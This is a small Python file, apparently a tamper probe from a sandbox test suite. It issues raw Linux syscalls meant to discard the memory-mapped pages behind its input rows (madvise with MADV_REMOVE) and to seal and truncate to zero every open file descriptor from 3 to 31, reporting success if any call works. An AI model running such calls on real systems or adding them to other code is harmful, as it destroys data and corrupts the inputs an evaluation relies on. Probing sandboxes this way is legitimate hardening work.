"""Cut a hole into the file of the rows by madvise, or cut it short by any descriptor that is left.

See: https://man7.org/linux/man-pages/man2/madvise.2.html
Layers: main bare
Takes: rows score
"""


def attempt(rows, score):
    address = rows.__array_interface__["data"][0]
    answers = [] if address % 4096 else [call(28, address, 4096, 9)]
    answers += [call(72, descriptor, 1033, 0) for descriptor in range(3, 32)]  # F_ADD_SEALS
    answers += [call(77, descriptor, 0) for descriptor in range(3, 32)]  # ftruncate
    return float(0 in answers)
